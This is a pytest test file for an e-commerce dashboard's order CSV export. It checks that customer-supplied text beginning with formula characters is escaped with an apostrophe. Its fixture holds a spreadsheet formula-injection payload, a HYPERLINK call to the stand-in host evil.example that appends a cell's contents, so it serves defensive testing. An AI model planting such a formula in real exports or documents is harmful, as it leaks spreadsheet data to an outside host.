"""The dashboard's "Download selected orders" CSV is safe to open in a spreadsheet."""

import csv
import io

import pytest
from oscar.core.loading import get_class, get_model

from commerce.dashboard.orders import views
from testkit.factories.order import order_place

pytestmark = pytest.mark.django_db

User = get_model("auth", "User")
Country = get_model("address", "Country")
ShippingAddress = get_model("order", "ShippingAddress")

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'


def test_oscar_loads_the_forked_order_list():
    assert get_class("dashboard.orders.views", "OrderListView") is views.OrderListView


def test_customer_text_that_a_spreadsheet_would_run_is_written_as_text(client):
    order = order_place(email="-2+3@example.org")
    order.shipping_address = ShippingAddress.objects.create(
        first_name=FORMULA,
        last_name="",
        line1="1 Rue de la Paix",
        line4="Paris",
        postcode="75002",
        country=Country.objects.get(iso_3166_1_a2="FR"),
    )
    order.save()
    client.force_login(User.objects.get(email="admin@example.com"))

    response = client.get(
        "/dashboard/orders/", {"response_format": "csv", "order_number": order.number}
    )

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv"
    header, row = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    values = dict(zip(header, row, strict=True))
    assert values["Deliver to name"] == "'" + FORMULA
    assert values["Customer email address"] == "'-2+3@example.org"
    assert values["Order number"] == str(order.number)
    # A number stays a number.
    assert values["Order value"] == str(order.total_incl_tax)
